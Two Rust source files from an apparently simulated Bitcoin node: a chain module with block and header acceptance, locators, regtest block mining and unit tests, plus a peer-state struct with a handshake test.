        let new_tip = height > self.tip_height;
        if new_tip {
            self.tip = hash;
            self.tip_height = height;
        }
        BlockVerdict::Accepted { height, new_tip }
    }

    /// Marks a block invalid by fiat (test/experiment hook — e.g. to seed
    /// the "cached as invalid" condition).
    pub fn mark_invalid(&mut self, hash: Hash256) {
        self.invalid.insert(hash);
    }

    /// Returns up to `max` headers following the first locator hash we know,
    /// walking the best chain (the `GETHEADERS` service).
    pub fn headers_after(&self, locator: &[Hash256], max: usize) -> Vec<BlockHeader> {
        // Find the fork point: first locator entry we know; the default
        // fork point is genesis, so serving starts at height 1.
        let mut start_height = 1;
        for h in locator {
            if let Some((_, height)) = self.headers.get(h) {
                start_height = height + 1;
                break;
            }
        }
        let best: Vec<Hash256> = self.best_chain();
        best.iter()
            .skip(start_height as usize)
            .take(max)
            .filter_map(|h| self.headers.get(h).map(|(hdr, _)| *hdr))
            .collect()
    }

    /// Hashes of the best chain from genesis to tip.
    pub fn best_chain(&self) -> Vec<Hash256> {
        let mut chain = Vec::with_capacity(self.tip_height as usize + 1);
        let mut cur = self.tip;
        loop {
            chain.push(cur);
            if cur == self.genesis {
                break;
            }
            let Some((hdr, _)) = self.headers.get(&cur) else {
                break;
            };
            cur = hdr.prev_block;
        }
        chain.reverse();
        chain
    }

    /// A block locator for the current tip (exponentially thinning).
    pub fn locator(&self) -> Vec<Hash256> {
        let chain = self.best_chain();
        let mut out = Vec::new();
        let mut step = 1usize;
        let mut idx = chain.len().checked_sub(1);
        while let Some(i) = idx {
            out.extend(chain.get(i).copied());
            if out.len() >= 10 {
                step *= 2;
            }
            idx = i.checked_sub(step);
        }
        if out.last() != Some(&self.genesis) {
            out.push(self.genesis);
        }
        out
    }
}

impl Default for Chain {
    fn default() -> Self {
        Chain::new()
    }
}

/// The deterministic regtest genesis block of the simulated network.
pub fn genesis_block() -> Block {
    let coinbase = Transaction::coinbase(50 * 100_000_000, b"banscore-regtest-genesis");
    let mut block = Block {
        header: BlockHeader {
            version: 1,
            prev_block: Hash256::ZERO,
            merkle_root: Hash256::ZERO,
            time: 1_296_688_602,
            bits: REGTEST_BITS,
            nonce: 0,
        },
        txs: vec![coinbase],
    };
    block.header.merkle_root = block.merkle_root();
    block.header.mine();
    block
}

/// Mines a valid block on top of `prev` with `extra_txs` transactions
/// (plus a coinbase tagged by `tag`).
pub fn mine_child(prev: &BlockHeader, prev_hash: Hash256, tag: u64, extra_txs: Vec<Transaction>) -> Block {
    let mut txs = vec![Transaction::coinbase(
        50 * 100_000_000,
        &tag.to_le_bytes(),
    )];
    txs.extend(extra_txs);
    let mut block = Block {
        header: BlockHeader {
            version: 1,
            prev_block: prev_hash,
            merkle_root: Hash256::ZERO,
            time: prev.time + 600,
            bits: REGTEST_BITS,
            nonce: 0,
        },
        txs,
    };
    block.header.merkle_root = block.merkle_root();
    block.header.mine();
    block
}

#[cfg(test)]
mod tests {
    use super::*;

    fn extend(chain: &mut Chain, n: u64) -> Vec<Block> {
        let mut out = Vec::new();
        for i in 0..n {
            let tip = chain.tip();
            let (hdr, _) = chain.headers[&tip];
            let b = mine_child(&hdr, tip, 1000 + i, vec![]);
            assert!(matches!(
                chain.accept_block(&b),
                BlockVerdict::Accepted { .. }
            ));
            out.push(b);
        }
        out
    }

    #[test]
    fn genesis_is_deterministic_and_valid() {
        let a = genesis_block();
        let b = genesis_block();
        assert_eq!(a.hash(), b.hash());
        assert_eq!(a.check(), Ok(()));
    }

    #[test]
    fn accepts_a_growing_chain() {
        let mut c = Chain::new();
        extend(&mut c, 5);
        assert_eq!(c.height(), 5);
        assert_eq!(c.best_chain().len(), 6);
    }

    #[test]
    fn duplicate_block_detected() {
        let mut c = Chain::new();
        let blocks = extend(&mut c, 1);
        assert_eq!(c.accept_block(&blocks[0]), BlockVerdict::Duplicate);
    }

    #[test]
    fn mutated_block_rejected_and_cached() {
        let mut c = Chain::new();
        let tip = c.tip();
        let (hdr, _) = c.headers[&tip];
        let mut b = mine_child(&hdr, tip, 7, vec![]);
        // Mutate after mining: merkle no longer matches.
        b.txs[0] = Transaction::coinbase(1, b"swapped!");
        let first = c.accept_block(&b);
        assert!(matches!(first, BlockVerdict::Mutated(_)));
        // Second submission hits the invalid cache.
        assert_eq!(c.accept_block(&b), BlockVerdict::CachedInvalid);
    }

    #[test]
    fn orphan_block_reports_prev_missing() {
        let mut c = Chain::new();
        let fake_parent = Hash256::hash(b"nonexistent");
        let hdr = BlockHeader {
            prev_block: fake_parent,
            ..genesis_block().header
        };
        let b = mine_child(&hdr, fake_parent, 9, vec![]);
        assert_eq!(c.accept_block(&b), BlockVerdict::PrevMissing);
        assert_eq!(c.height(), 0);
    }

    #[test]
    fn child_of_invalid_is_prev_invalid() {
        let mut c = Chain::new();
        let tip = c.tip();
        let (hdr, _) = c.headers[&tip];
        let bad = mine_child(&hdr, tip, 11, vec![]);
        c.mark_invalid(bad.hash());
        let child = mine_child(&bad.header, bad.hash(), 12, vec![]);
        assert_eq!(c.accept_block(&child), BlockVerdict::PrevInvalid);
        // And the child itself is now cached invalid.
        assert_eq!(c.accept_block(&child), BlockVerdict::CachedInvalid);
    }

    #[test]
    fn fork_only_replaces_tip_when_longer() {
        let mut c = Chain::new();
        let blocks = extend(&mut c, 3);
        let tip_before = c.tip();
        // Fork off block 1 (height 2 < 3): accepted but not the tip.
        let fork = mine_child(&blocks[0].header, blocks[0].hash(), 99, vec![]);
        assert_eq!(
            c.accept_block(&fork),
            BlockVerdict::Accepted {
                height: 2,
                new_tip: false
            }
        );
        assert_eq!(c.tip(), tip_before);
        // Extend the fork past the main chain.
        let f2 = mine_child(&fork.header, fork.hash(), 100, vec![]);
        let f3 = mine_child(&f2.header, f2.hash(), 101, vec![]);
        c.accept_block(&f2);
        assert_eq!(
            c.accept_block(&f3),
            BlockVerdict::Accepted {
                height: 4,
                new_tip: true
            }
        );
        assert_eq!(c.tip(), f3.hash());
    }

    #[test]
    fn header_acceptance_paths() {
        let mut c = Chain::new();
        let tip = c.tip();
        let (hdr, _) = c.headers[&tip];
        let b1 = mine_child(&hdr, tip, 1, vec![]);
        assert_eq!(
            c.accept_header(&b1.header),
            HeaderVerdict::Accepted { height: 1 }
        );
        // Unknown parent.
        let orphan = mine_child(&hdr, Hash256::hash(b"???"), 2, vec![]);
        assert_eq!(c.accept_header(&orphan.header), HeaderVerdict::Unconnected);
        // Bad PoW.
        let mut bad = b1.header;
        bad.bits = 0x1d00_ffff;
        assert_eq!(c.accept_header(&bad), HeaderVerdict::BadPow);
        // Parent invalid.
        c.mark_invalid(b1.header.hash());
        let child = mine_child(&b1.header, b1.header.hash(), 3, vec![]);
        assert_eq!(c.accept_header(&child.header), HeaderVerdict::PrevInvalid);
    }

    #[test]
    fn headers_after_serves_from_fork_point() {
        let mut c = Chain::new();
        let blocks = extend(&mut c, 10);
        // Locator containing block 4: serve 5..=9.
        let got = c.headers_after(&[blocks[4].hash()], 2000);
        assert_eq!(got.len(), 5);
        assert_eq!(got[0].hash(), blocks[5].hash());
        // Unknown locator: serve everything after genesis.
        let got = c.headers_after(&[Hash256::hash(b"unknown")], 2000);
        assert_eq!(got.len(), 10);
        // Max respected.
        let got = c.headers_after(&[], 3);
        assert_eq!(got.len(), 3);
    }

    #[test]
    fn locator_thins_exponentially_and_ends_at_genesis() {
        let mut c = Chain::new();
        extend(&mut c, 40);
        let loc = c.locator();
        assert_eq!(loc[0], c.tip());
        assert_eq!(*loc.last().unwrap(), c.genesis_hash());
        assert!(loc.len() < 25, "locator too dense: {}", loc.len());
    }
}
