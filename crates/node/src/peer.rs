//! Per-peer connection state.

use btc_netsim::packet::SockAddr;
use btc_netsim::tcp::ConnId;
use btc_netsim::time::Nanos;
use btc_wire::bloom::BloomFilter;
use btc_wire::bytes::RecvBuffer;
use btc_wire::message::VersionMessage;
use btc_wire::types::Hash256;
use std::collections::BTreeMap;

/// State kept for one connected peer.
#[derive(Clone, Debug)]
pub struct Peer {
    /// Transport connection id.
    pub conn: ConnId,
    /// The peer's connection identifier — what gets banned.
    pub addr: SockAddr,
    /// Whether the peer connected to us.
    pub inbound: bool,
    /// Reassembly cursor buffer for partial frames. Deliveries append,
    /// framing advances the read cursor, payloads borrow the backing
    /// allocation — see the zero-copy receive path in `node/recv.rs`.
    pub recv_buf: RecvBuffer,
    /// The peer's `VERSION`, once received.
    pub version: Option<VersionMessage>,
    /// Whether the peer's `VERACK` arrived (handshake complete when both
    /// this and `version` are set).
    pub got_verack: bool,
    /// Count of non-connecting `HEADERS` messages (the 10-strike rule).
    pub unconnecting_headers: u32,
    /// BIP37 filter, if loaded.
    pub filter: Option<BloomFilter>,
    /// BIP130: announce blocks via `headers`.
    pub prefers_headers: bool,
    /// BIP133 fee filter.
    pub fee_filter: i64,
    /// BIP152 high-bandwidth mode requested.
    pub cmpct_announce: bool,
    /// Compact blocks awaiting a `BLOCKTXN` answer, by block hash.
    pub pending_compact: BTreeMap<Hash256, btc_wire::compact::CompactBlock>,
    /// Messages received from this peer.
    pub messages_received: u64,
    /// When the transport connection was established (drives the
    /// handshake-timeout eviction).
    pub connected_at: Nanos,
    /// Outstanding keepalive ping: `(nonce, sent_at)`. Cleared by a
    /// matching `PONG`; drives the ping-timeout eviction.
    pub ping_pending: Option<(u64, Nanos)>,
}

impl Peer {
    /// Creates state for a fresh connection.
    pub fn new(conn: ConnId, addr: SockAddr, inbound: bool) -> Self {
        Peer {
            conn,
            addr,
            inbound,
            recv_buf: RecvBuffer::new(),
            version: None,
            got_verack: false,
            unconnecting_headers: 0,
            filter: None,
            prefers_headers: false,
            fee_filter: 0,
            cmpct_announce: false,
            pending_compact: BTreeMap::new(),
            messages_received: 0,
            connected_at: 0,
            ping_pending: None,
        }
    }

    /// Whether the version handshake finished.
    pub fn handshake_complete(&self) -> bool {
        self.version.is_some() && self.got_verack
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn handshake_requires_version_and_verack() {
        let mut p = Peer::new(ConnId(1), SockAddr::new([1, 2, 3, 4], 8333), true);
        assert!(!p.handshake_complete());
        p.version = Some(VersionMessage::new(
            Default::default(),
            Default::default(),
            1,
        ));
        assert!(!p.handshake_complete());
        p.got_verack = true;
        assert!(p.handshake_complete());
    }
}
